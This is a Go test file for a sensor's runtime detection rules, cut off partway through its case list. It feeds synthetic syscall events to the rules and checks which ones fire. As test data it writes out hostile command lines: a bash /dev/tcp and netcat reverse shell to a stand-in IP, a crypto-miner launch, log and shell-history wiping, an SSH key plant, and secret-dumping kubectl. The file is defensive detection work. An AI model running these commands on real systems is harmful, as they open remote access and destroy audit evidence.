package ruleset_test

// Tests of the embedded runtime (syscall) rules on events built as the
// sensor builds them: a *sysevent.Event prepared with SetType after the
// param schema, its Thread and Process from a small process table (which
// answers ancestry through sysevent.ProcessLookup), the container the
// process runs in, and the FD the event concerns.
//
// Each case names the rules the event must fire, exactly: a case fails
// when a rule fires that is not listed, so every case also checks that the
// other rules stay quiet. Every rule of runtime.yaml must have a case that
// fires it and a benign case, named after it, that does not.

import (
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/vigilsec/vigil/internal/container"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/k8saudit"
	"github.com/vigilsec/vigil/internal/rules"
	"github.com/vigilsec/vigil/internal/sysevent"
	"github.com/vigilsec/vigil/internal/testutil"
	"github.com/vigilsec/vigil/ruleset"
)

const runtimeFile = ruleset.NamePrefix + "runtime.yaml"

func allSources() []event.Source {
	return []event.Source{sysevent.Source{}, k8saudit.NewSource()}
}

func loadRuntime(t *testing.T, extra ...rules.File) *rules.Ruleset {
	t.Helper()
	files := append(ruleset.Files(), extra...)
	rs, diags := rules.Load(files, rules.Options{Sources: allSources()})
	require.Empty(t, diags.Errors(), "errors loading rules:\n%s", diagText(diags.Errors()))
	return rs
}

func runtimeRules(rs *rules.Ruleset) []*rules.Rule {
	var out []*rules.Rule
	for _, r := range rs.Rules() {
		if r.File == runtimeFile {
			out = append(out, r)
		}
	}
	return out
}

// procs is a process table keyed by pid.
type procs map[int64]*sysevent.Process

func (t procs) Process(pid int64) *sysevent.Process { return t[pid] }

const ctrID = "4b825dc642cb6eb9a060e54bf8d69288fbee4904aabbccddeeff001122334455"

// rtWorld is a node: systemd → containerd-shim → the container's init
// (pid 1 in the container), plus whatever processes a case adds.
type rtWorld struct {
	procs   procs
	ctr     *container.Info
	shim    *sysevent.Process
	init    *sysevent.Process
	nextPID int64
}

func newRTWorld() *rtWorld {
	ctr := &container.Info{
		ID: ctrID, Runtime: container.RuntimeContainerd, Name: "shop",
		Image: "docker.io/library/nginx:1.27", ImageRepo: "docker.io/library/nginx", ImageTag: "1.27",
		Pod:      &container.Pod{Name: "shop-7d9f", Namespace: "web", UID: "0d0c-uid"},
		Complete: true,
	}
	root := &sysevent.User{UID: 0, Name: "root", HomeDir: "/root", Shell: "/bin/sh"}
	systemd := &sysevent.Process{PID: 1, VPID: 1, Comm: "systemd", Exe: "/sbin/init", ExePath: "/usr/lib/systemd/systemd", User: root}
	shim := &sysevent.Process{PID: 100, PPID: 1, VPID: 100, Comm: "containerd-shim", Exe: "containerd-shim",
		ExePath: "/usr/bin/containerd-shim-runc-v2", User: root}
	init := &sysevent.Process{PID: 200, PPID: 100, VPID: 1, Comm: "nginx", Exe: "nginx", ExePath: "/usr/sbin/nginx",
		Args: []string{"-g", "daemon off;"}, Cwd: "/", User: root, Container: ctr}
	return &rtWorld{
		procs: procs{1: systemd, 100: shim, 200: init},
		ctr:   ctr, shim: shim, init: init, nextPID: 1000,
	}
}

// spawn adds a process: a child of parent, in parent's container, named
// after exepath, with args.
func (w *rtWorld) spawn(parent *sysevent.Process, exepath string, args ...string) *sysevent.Process {
	w.nextPID++
	comm := exepath[strings.LastIndexByte(exepath, '/')+1:]
	if len(comm) > 15 {
		comm = comm[:15]
	}
	p := &sysevent.Process{
		PID: w.nextPID, PPID: parent.PID, VPID: w.nextPID - 990, PVPID: parent.VPID,
		Comm: comm, Exe: exepath, ExePath: exepath, Args: args, Cwd: "/",
		User: parent.User, Container: parent.Container, LoginUID: 0xffffffff,
	}
	if parent.Container == nil {
		p.VPID = p.PID
	}
	w.procs[p.PID] = p
	return p
}

// host returns a process on the host, a child of systemd.
func (w *rtWorld) host(exepath string, args ...string) *sysevent.Process {
	return w.spawn(w.procs[1], exepath, args...)
}

// event prepares an event of type name made by p.
func (w *rtWorld) event(t testing.TB, p *sysevent.Process, name string) *sysevent.Event {
	t.Helper()
	code, ok := sysevent.Source{}.TypeCode(name)
	require.True(t, ok, "event type %s", name)
	e := &sysevent.Event{}
	e.Reset()
	e.Num = 7
	e.Time = 1_750_000_000_000_000_000
	e.Procs = w.procs
	e.Thread = &sysevent.Thread{TID: p.PID, VTID: p.VPID, Proc: p}
	e.SetType(code)
	return e
}

// set fills the named argument.
func set(t testing.TB, e *sysevent.Event, name string, v any) {
	t.Helper()
	p := e.Param(name)
	require.NotNil(t, p, "event has no argument %s", name)
	switch x := v.(type) {
	case int:
		p.Num = uint64(int64(x))
	case uint64:
		p.Num = x
	case string:
		p.Str = x
	case []byte:
		p.Bytes = append(p.Bytes[:0], x...)
	case netip.AddrPort:
		p.Addr, p.Port = x.Addr(), x.Port()
	default:
		t.Fatalf("set %s: unsupported %T", name, v)
	}
}

// exec is the exit of p's successful execve.
func (w *rtWorld) exec(t testing.TB, p *sysevent.Process) *sysevent.Event {
	e := w.event(t, p, "execve")
	set(t, e, "res", 0)
	set(t, e, "exe", p.Exe)
	set(t, e, "filename", p.ExePath)
	set(t, e, "tid", int(p.PID))
	set(t, e, "pid", int(p.PID))
	set(t, e, "ptid", int(p.PPID))
	set(t, e, "cwd", p.Cwd)
	set(t, e, "comm", p.Comm)
	set(t, e, "tty", uint64(p.TTY))
	return e
}

// open is p's successful openat(AT_FDCWD, path, flags) returning fd 3;
// flags in Falco's encoding.
func (w *rtWorld) open(t testing.TB, p *sysevent.Process, path string, flags uint64) *sysevent.Event {
	e := w.event(t, p, "openat")
	fd := &sysevent.FD{Num: 3, Type: sysevent.FDFile, Name: path, NameRaw: path, OpenFlags: flags}
	e.FD = fd
	e.Res = 3
	set(t, e, "fd", 3)
	set(t, e, "dirfd", -100)
	set(t, e, "name", path)
	set(t, e, "flags", flags)
	set(t, e, "mode", 0o644)
	p.FDs = map[int64]*sysevent.FD{3: fd}
	return e
}

// pathCall is a successful single-path *at call (unlinkat, mkdirat) or
// truncate.
func (w *rtWorld) pathCall(t testing.TB, p *sysevent.Process, name, path string) *sysevent.Event {
	e := w.event(t, p, name)
	e.Res = 0
	set(t, e, "res", 0)
	switch name {
	case "unlinkat":
		set(t, e, "dirfd", -100)
		set(t, e, "name", path)
	case "mkdirat":
		set(t, e, "dirfd", -100)
		set(t, e, "path", path)
		set(t, e, "mode", 0o755)
	default:
		set(t, e, "path", path)
	}
	return e
}

// rename is a successful renameat2(AT_FDCWD, from, AT_FDCWD, to, 0).
func (w *rtWorld) rename(t testing.TB, p *sysevent.Process, from, to string) *sysevent.Event {
	e := w.event(t, p, "renameat2")
	set(t, e, "res", 0)
	set(t, e, "olddirfd", -100)
	set(t, e, "oldpath", from)
	set(t, e, "newdirfd", -100)
	set(t, e, "newpath", to)
	return e
}

// symlink is a successful symlinkat(target, AT_FDCWD, link).
func (w *rtWorld) symlink(t testing.TB, p *sysevent.Process, target, link string) *sysevent.Event {
	e := w.event(t, p, "symlinkat")
	set(t, e, "res", 0)
	set(t, e, "target", target)
	set(t, e, "linkdirfd", -100)
	set(t, e, "linkpath", link)
	return e
}

// ftruncate is p's ftruncate(3, length) of the file at path.
func (w *rtWorld) ftruncate(t testing.TB, p *sysevent.Process, path string, length int) *sysevent.Event {
	e := w.event(t, p, "ftruncate")
	fd := &sysevent.FD{Num: 3, Type: sysevent.FDFile, Name: path, OpenFlags: sysevent.OpenWRONLY}
	e.FD = fd
	set(t, e, "res", 0)
	set(t, e, "fd", 3)
	set(t, e, "length", length)
	return e
}

// tcp returns a connected IPv4 TCP socket from 10.1.0.5:41000 to server.
func tcp(num int64, server string) *sysevent.FD {
	ap := netip.MustParseAddrPort(server)
	local := netip.MustParseAddrPort("10.1.0.5:41000")
	return &sysevent.FD{Num: num, Type: sysevent.FDIPv4, Name: local.String() + "->" + ap.String(),
		L4Proto: "tcp", Family: 2, ClientAddr: local.Addr(), ClientPort: local.Port(),
		ServerAddr: ap.Addr(), ServerPort: ap.Port(), Connected: true}
}

// connect is p's connect(4, server) with result res (0 or a negated errno).
func (w *rtWorld) connect(t testing.TB, p *sysevent.Process, server string, res int) *sysevent.Event {
	e := w.event(t, p, "connect")
	fd := tcp(4, server)
	fd.Connected = res == 0
	e.FD = fd
	e.Res = int64(res)
	set(t, e, "res", res)
	set(t, e, "fd", 4)
	set(t, e, "addr", netip.MustParseAddrPort(server))
	p.FDs = map[int64]*sysevent.FD{4: fd}
	return e
}

// dup2 is p's dup2(oldfd, newfd) of the descriptor fd.
func (w *rtWorld) dup2(t testing.TB, p *sysevent.Process, fd *sysevent.FD, newfd int) *sysevent.Event {
	e := w.event(t, p, "dup2")
	e.FD = fd
	e.Res = int64(newfd)
	set(t, e, "res", newfd)
	set(t, e, "oldfd", int(fd.Num))
	set(t, e, "newfd", newfd)
	return e
}

// nsCall is setns(fd, nstype) or unshare(flags) with result res; flags in
// Falco's encoding of clone flags.
func (w *rtWorld) nsCall(t testing.TB, p *sysevent.Process, name string, flags uint64, res int) *sysevent.Event {
	e := w.event(t, p, name)
	e.Res = int64(res)
	set(t, e, "res", res)
	if name == "setns" {
		fd := &sysevent.FD{Num: 3, Type: sysevent.FDFile, Name: "/proc/1/ns/mnt"}
		e.FD = fd
		set(t, e, "fd", 3)
		set(t, e, "nstype", flags)
	} else {
		set(t, e, "flags", flags)
	}
	return e
}

// ptrace is p's ptrace(request, pid) with request in Falco's encoding.
func (w *rtWorld) ptrace(t testing.TB, p *sysevent.Process, request uint64, pid int) *sysevent.Event {
	e := w.event(t, p, "ptrace")
	set(t, e, "res", 0)
	set(t, e, "request", request)
	set(t, e, "pid", pid)
	return e
}

// Falco's encoding of the ptrace requests used below.
const (
	ptraceTraceme  = 1
	ptracePeekdata = 3
	ptracePoketext = 5
	ptraceAttach   = 11
	ptraceSeize    = 20
)

const (
	enosys      = -38
	eperm       = -1
	einprogress = -115
	econnrefuse = -111
)

type rtCase struct {
	name  string
	build func(t *testing.T, w *rtWorld) *sysevent.Event
	want  []string
	// rule is the rule the case is about: when want does not list it, the
	// case is that rule's benign counterpart.
	rule string
	// output holds substrings the rendered output of want[0] must contain.
	output []string
}

const (
	ruleShell      = "Terminal Shell In Container"
	ruleMiner      = "Crypto Miner Launched"
	rulePool       = "Connection To Mining Pool Port"
	ruleLogs       = "Log Files Deleted Or Truncated"
	ruleHistory    = "Shell History Tampering"
	ruleWebShell   = "Web Server Spawned Shell Or Recon Command"
	ruleNamespace  = "Namespace Changed"
	ruleDropExec   = "Drop And Execute In Container"
	ruleSysWrite   = "Write Below System Directory In Container"
	ruleSAToken    = "Service Account Token Read By Unexpected Program"
	ruleK8sAPI     = "Kubernetes API Contacted From Container"
	ruleCLI        = "Container Management Client In Container"
	ruleRevShell   = "Reverse Shell"
	ruleMemfd      = "Fileless Execution Via Memfd"
	ruleModule     = "Kernel Module Load"
	rulePtrace     = "Ptrace Attach Or Memory Write"
	ruleSensitive  = "Sensitive File Read"
	rulePkgManager = "Package Management In Container"
)

// shellIn returns an interactive shell (no terminal) started by the
// container's runtime, the parent of a container's ad-hoc commands.
func shellIn(w *rtWorld) *sysevent.Process {
	return withContainer(w.spawn(w.shim, "/bin/sh"), w.ctr)
}

func withContainer(p *sysevent.Process, ci *container.Info) *sysevent.Process {
	p.Container = ci
	return p
}

var rtCases = []rtCase{
	// Terminal shell.
	{name: "bash-with-tty-in-container", rule: ruleShell, want: []string{ruleShell},
		output: []string{"shell=bash", "tty=34816", "container_id=4b825dc642cb", "container=shop",
			"image=docker.io/library/nginx", "ns=web", "pod=shop-7d9f", "exe=/bin/bash", "cmdline=bash -i", "parent=containerd-shim"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			p := withContainer(w.spawn(w.shim, "/bin/bash", "-i"), w.ctr)
			p.TTY = 34816
			return w.exec(t, p)
		}},
	{name: "script-shell-without-tty", rule: ruleShell,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(shellIn(w), "/bin/sh", "/docker-entrypoint.d/10-listen.sh"))
		}},
	{name: "shell-with-tty-on-host", rule: ruleShell,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			p := w.host("/usr/bin/bash")
			p.TTY = 34817
			return w.exec(t, p)
		}},

	// Crypto miners.
	{name: "xmrig-started", rule: ruleMiner, want: []string{ruleMiner},
		output: []string{"program=xmrig", "exe=/opt/xmrig", "-o pool.example:3333"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/opt/xmrig", "-o", "pool.example:3333"))
		}},
	{name: "renamed-miner-with-stratum-url", rule: ruleMiner, want: []string{ruleMiner},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.host("/usr/local/bin/systemd-helper", "--url", "stratum+tcp://pool.example:4444", "--user", "wallet"))
		}},
	{name: "curl-with-ordinary-url", rule: ruleMiner,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/usr/bin/curl", "-s", "https://example.com/stratum-docs"))
		}},
	{name: "connect-to-pool-port", rule: rulePool, want: []string{rulePool},
		output: []string{"server=198.51.100.7", "port=3333", "program=xmrig", "container_id=4b825dc642cb"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.connect(t, w.spawn(w.init, "/opt/xmrig"), "198.51.100.7:3333", 0)
		}},
	{name: "nonblocking-connect-to-14444", rule: rulePool, want: []string{rulePool},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.connect(t, w.host("/usr/bin/python3"), "198.51.100.7:14444", einprogress)
		}},
	{name: "connect-to-https", rule: rulePool,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.connect(t, w.spawn(w.init, "/usr/bin/curl"), "93.184.216.34:443", 0)
		}},
	{name: "refused-connect-to-pool-port", rule: rulePool,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.connect(t, w.spawn(w.init, "/opt/xmrig"), "198.51.100.7:3333", econnrefuse)
		}},

	// Logs.
	{name: "rm-var-log", rule: ruleLogs, want: []string{ruleLogs},
		output: []string{"file=/var/log/auth.log", "syscall=unlinkat", "cmdline=rm -f /var/log/auth.log"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.pathCall(t, w.spawn(w.init, "/bin/rm", "-f", "/var/log/auth.log"), "unlinkat", "/var/log/auth.log")
		}},
	{name: "truncate-log-with-shell-redirect", rule: ruleLogs, want: []string{ruleLogs},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, shellIn(w), "/var/log/nginx/access.log", sysevent.OpenWRONLY|sysevent.OpenCREAT|sysevent.OpenTRUNC)
		}},
	{name: "ftruncate-log-to-zero", rule: ruleLogs, want: []string{ruleLogs},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.ftruncate(t, w.host("/usr/bin/truncate", "-s0", "/var/log/syslog"), "/var/log/syslog", 0)
		}},
	{name: "log-renamed-away", rule: ruleLogs, want: []string{ruleLogs},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.rename(t, w.spawn(w.init, "/bin/mv", "/var/log/secure", "/tmp/x"), "/var/log/secure", "/tmp/x")
		}},
	{name: "logrotate-rotates", rule: ruleLogs,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.rename(t, w.host("/usr/sbin/logrotate", "/etc/logrotate.conf"), "/var/log/syslog", "/var/log/syslog.1")
		}},
	{name: "app-appends-to-log", rule: ruleLogs,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.init, "/var/log/nginx/access.log", sysevent.OpenWRONLY|sysevent.OpenCREAT|sysevent.OpenAPPEND)
		}},

	// History.
	{name: "history-deleted", rule: ruleHistory, want: []string{ruleHistory},
		output: []string{"file=/root/.ash_history", "syscall=unlinkat"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.pathCall(t, w.spawn(w.init, "/bin/rm", "/root/.ash_history"), "unlinkat", "/root/.ash_history")
		}},
	{name: "history-truncated-by-cat", rule: ruleHistory, want: []string{ruleHistory},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.host("/usr/bin/cp", "/dev/null", "/home/alice/.bash_history"), "/home/alice/.bash_history",
				sysevent.OpenWRONLY|sysevent.OpenTRUNC)
		}},
	{name: "history-linked-to-dev-null", rule: ruleHistory, want: []string{ruleHistory},
		output: []string{"source=/dev/null", "target=/root/.bash_history"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.symlink(t, w.spawn(w.init, "/bin/ln", "-sf", "/dev/null", "/root/.bash_history"), "/dev/null", "/root/.bash_history")
		}},
	{name: "history-c-in-shell-command", rule: ruleHistory, want: []string{ruleHistory},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.shim, "/bin/bash", "-c", "history -c && exit"))
		}},
	{name: "shell-appends-history", rule: ruleHistory,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, shellIn(w), "/root/.ash_history", sysevent.OpenWRONLY|sysevent.OpenCREAT|sysevent.OpenAPPEND)
		}},
	{name: "history-command-without-c", rule: ruleHistory,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.shim, "/bin/bash", "-c", "history 10"))
		}},

	// Web shells.
	{name: "php-fpm-spawns-sh", rule: ruleWebShell, want: []string{ruleWebShell},
		output: []string{"program=sh", "webserver=php-fpm", "cmdline=sh -c id"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			fpm := w.spawn(w.init, "/usr/sbin/php-fpm")
			return w.exec(t, w.spawn(fpm, "/bin/sh", "-c", "id"))
		}},
	{name: "java-runs-whoami", rule: ruleWebShell, want: []string{ruleWebShell},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			java := w.spawn(w.init, "/opt/java/openjdk/bin/java", "-jar", "app.jar")
			return w.exec(t, w.spawn(java, "/usr/bin/whoami"))
		}},
	{name: "nginx-child-cats-passwd", rule: ruleWebShell, want: []string{ruleWebShell},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/bin/cat", "/etc/passwd"))
		}},
	{name: "php-fpm-runs-image-converter", rule: ruleWebShell,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			fpm := w.spawn(w.init, "/usr/sbin/php-fpm")
			return w.exec(t, w.spawn(fpm, "/usr/bin/convert", "in.png", "out.jpg"))
		}},
	{name: "nginx-child-cats-its-config", rule: ruleWebShell,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/bin/cat", "/etc/nginx/nginx.conf"))
		}},

	// Namespaces.
	{name: "nsenter-setns-in-container", rule: ruleNamespace, want: []string{ruleNamespace},
		output: []string{"syscall=setns", "res=EPERM", "fd=/proc/1/ns/mnt"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.nsCall(t, w.spawn(w.init, "/usr/bin/nsenter", "-t", "1", "-m", "sh"), "setns", sysevent.CloneNEWNS, eperm)
		}},
	{name: "unshare-user-ns-in-container", rule: ruleNamespace, want: []string{ruleNamespace},
		output: []string{"CLONE_NEWUSER"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.nsCall(t, w.spawn(w.init, "/usr/bin/unshare", "-r", "sh"), "unshare", sysevent.CloneNEWUSER|sysevent.CloneNEWNS, 0)
		}},
	{name: "unshare-by-host-tool", rule: ruleNamespace, want: []string{ruleNamespace},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.nsCall(t, w.host("/usr/bin/unshare", "-m", "bash"), "unshare", sysevent.CloneNEWNS, 0)
		}},
	{name: "runc-joins-container-namespaces", rule: ruleNamespace,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			p := withContainer(w.spawn(w.shim, "/usr/bin/runc", "init"), w.ctr)
			p.Comm = "runc:[1:CHILD]"
			return w.nsCall(t, p, "setns", sysevent.CloneNEWNET, 0)
		}},
	{name: "systemd-sandboxes-a-service", rule: ruleNamespace,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			p := w.host("/usr/lib/systemd/systemd")
			p.Comm = "(sshd)"
			return w.nsCall(t, p, "unshare", sysevent.CloneNEWNS, 0)
		}},

	// Drop and execute.
	{name: "exec-from-tmp", rule: ruleDropExec, want: []string{ruleDropExec},
		output: []string{"exe=/tmp/payload", "cmdline=payload --fast", "container_id=4b825dc642cb"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/tmp/payload", "--fast"))
		}},
	{name: "exec-from-upper-layer", rule: ruleDropExec, want: []string{ruleDropExec},
		output: []string{"upper_layer=true"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			p := w.spawn(w.init, "/usr/local/bin/helper")
			p.ExeUpperLayer = true
			return w.exec(t, p)
		}},
	{name: "exec-from-dev-shm-miner", rule: ruleDropExec, want: []string{ruleMiner, ruleDropExec},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/dev/shm/xmrig"))
		}},
	{name: "exec-from-image", rule: ruleDropExec,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(shellIn(w), "/usr/bin/env"))
		}},
	{name: "exec-from-tmp-on-host", rule: ruleDropExec,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.host("/tmp/go-build123/b001/exe/main"))
		}},

	// Writes below system directories.
	{name: "write-etc-passwd", rule: ruleSysWrite, want: []string{ruleSysWrite},
		output: []string{"file=/etc/passwd", "syscall=openat", "O_WRONLY"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, shellIn(w), "/etc/passwd", sysevent.OpenWRONLY|sysevent.OpenAPPEND)
		}},
	{name: "plant-ssh-key", rule: ruleSysWrite, want: []string{ruleSysWrite},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, shellIn(w), "/root/.ssh/authorized_keys", sysevent.OpenWRONLY|sysevent.OpenCREAT|sysevent.OpenFCreated)
		}},
	{name: "binary-replaced-by-rename", rule: ruleSysWrite, want: []string{ruleSysWrite},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.rename(t, w.spawn(w.init, "/bin/mv", "/tmp/ps", "/bin/ps"), "/tmp/ps", "/bin/ps")
		}},
	{name: "mkdir-below-usr", rule: ruleSysWrite, want: []string{ruleSysWrite},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.pathCall(t, w.spawn(w.init, "/bin/mkdir", "/usr/lib/.x"), "mkdirat", "/usr/lib/.x")
		}},
	{name: "dpkg-writes-usr", rule: ruleSysWrite, want: []string{},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.spawn(w.init, "/usr/bin/dpkg", "-i", "x.deb"), "/usr/bin/tool.dpkg-new", sysevent.OpenWRONLY|sysevent.OpenCREAT)
		}},
	{name: "entrypoint-renders-nginx-conf", rule: ruleSysWrite,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.spawn(w.init, "/usr/bin/envsubst"), "/etc/nginx/conf.d/default.conf", sysevent.OpenWRONLY|sysevent.OpenCREAT|sysevent.OpenTRUNC)
		}},
	{name: "read-etc-config", rule: ruleSysWrite,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.init, "/etc/nginx/nginx.conf", sysevent.OpenRDONLY)
		}},

	// Service-account token.
	{name: "cat-reads-sa-token", rule: ruleSAToken, want: []string{ruleSAToken},
		output: []string{"file=/run/secrets/kubernetes.io/serviceaccount/..2025_06_01/token", "program=cat"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.spawn(shellIn(w), "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
				"/run/secrets/kubernetes.io/serviceaccount/..2025_06_01/token", sysevent.OpenRDONLY)
		}},
	{name: "curl-reads-sa-token-var-run", rule: ruleSAToken, want: []string{ruleSAToken},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.spawn(w.init, "/usr/bin/curl"), "/var/run/secrets/kubernetes.io/serviceaccount/token", sysevent.OpenRDONLY)
		}},
	{name: "main-process-reads-sa-token", rule: ruleSAToken,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.init, "/var/run/secrets/kubernetes.io/serviceaccount/token", sysevent.OpenRDONLY)
		}},
	{name: "cat-reads-sa-ca-cert", rule: ruleSAToken,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.open(t, w.spawn(w.init, "/bin/cat"), "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", sysevent.OpenRDONLY)
		}},

	// Kubernetes API.
	{name: "curl-to-kubernetes-service", rule: ruleK8sAPI, want: []string{ruleK8sAPI},
		output: []string{"server=10.96.0.1", "port=443", "program=curl"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.connect(t, w.spawn(shellIn(w), "/usr/bin/curl", "-k", "https://10.96.0.1/api"), "10.96.0.1:443", 0)
		}},
	{name: "connect-to-6443", rule: ruleK8sAPI, want: []string{ruleK8sAPI},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.connect(t, w.spawn(w.init, "/tmp/kube-hunter"), "192.168.1.10:6443", einprogress)
		}},
	{name: "main-process-talks-to-api", rule: ruleK8sAPI,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.connect(t, w.init, "10.96.0.1:443", 0)
		}},
	{name: "host-kubelet-to-api", rule: ruleK8sAPI,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.connect(t, w.host("/usr/bin/kubelet"), "192.168.1.10:6443", 0)
		}},

	// Container management clients.
	{name: "kubectl-in-container", rule: ruleCLI, want: []string{ruleCLI},
		output: []string{"program=kubectl", "cmdline=kubectl get secrets -A"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(shellIn(w), "/usr/local/bin/kubectl", "get", "secrets", "-A"))
		}},
	{name: "crictl-in-container", rule: ruleCLI, want: []string{ruleCLI},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(w.init, "/usr/bin/crictl", "ps"))
		}},
	{name: "kubectl-on-host", rule: ruleCLI,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.host("/usr/bin/kubectl", "get", "pods"))
		}},
	{name: "kubectl-in-kubectl-image", rule: ruleCLI,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			ci := *w.ctr
			ci.ImageRepo = "docker.io/bitnami/kubectl"
			return w.exec(t, withContainer(w.spawn(w.shim, "/opt/bitnami/kubectl/bin/kubectl", "apply", "-f", "x"), &ci))
		}},

	// Reverse shells.
	{name: "shell-dups-socket-to-stdin", rule: ruleRevShell, want: []string{ruleRevShell},
		output: []string{"connection=10.1.0.5:41000->203.0.113.9:4444", "newfd=0", "syscall=dup2", "program=bash"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.dup2(t, w.spawn(w.init, "/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), tcp(3, "203.0.113.9:4444"), 0)
		}},
	{name: "nc-dups-socket-then-execs-sh", rule: ruleRevShell, want: []string{ruleRevShell},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.dup2(t, w.spawn(w.init, "/bin/nc", "203.0.113.9", "4444", "-e", "/bin/sh"), tcp(3, "203.0.113.9:4444"), 1)
		}},
	{name: "shell-started-on-socket", rule: ruleRevShell, want: []string{ruleRevShell},
		output: []string{"stdin_type=(ipv4)", "parent=nc"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			nc := w.spawn(shellIn(w), "/bin/nc", "203.0.113.9", "4444", "-e", "/bin/sh")
			p := w.spawn(nc, "/bin/sh")
			sock := tcp(0, "203.0.113.9:4444")
			p.FDs = map[int64]*sysevent.FD{0: sock, 1: sock, 2: sock}
			return w.exec(t, p)
		}},
	{name: "shell-dups-file-to-stdout", rule: ruleRevShell,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.dup2(t, shellIn(w), &sysevent.FD{Num: 3, Type: sysevent.FDFile, Name: "/tmp/out.log"}, 1)
		}},
	{name: "server-dups-socket-above-stdio", rule: ruleRevShell,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.dup2(t, w.spawn(w.init, "/usr/bin/python3"), tcp(3, "203.0.113.9:5432"), 10)
		}},

	// Memfd.
	{name: "exec-from-memfd", rule: ruleMemfd, want: []string{ruleMemfd},
		output: []string{"exe=/memfd:x (deleted)", "memfd=true"},
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			p := w.spawn(w.init, "/memfd:x (deleted)")
			p.Comm = "3"
			p.ExeFromMemfd = true
			e := w.exec(t, p)
			code, _ := sysevent.Source{}.TypeCode("execveat")
			e.SetType(code)
			set(t, e, "res", 0)
			set(t, e, "dirfd", 3)
			set(t, e, "pathname", "")
			return e
		}},
	{name: "runc-reexec-from-memfd", rule: ruleMemfd,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			p := w.spawn(w.shim, "/memfd:runc_cloned:/proc/self/exe (deleted)", "init")
			p.Comm = "runc"
			p.ExeFromMemfd = true
			return w.exec(t, p)
		}},
	{name: "exec-from-disk", rule: ruleMemfd,
		build: func(t *testing.T, w *rtWorld) *sysevent.Event {
			return w.exec(t, w.spawn(shellIn(w), "/usr/bin/id"))
		}},

	// Kernel modules.
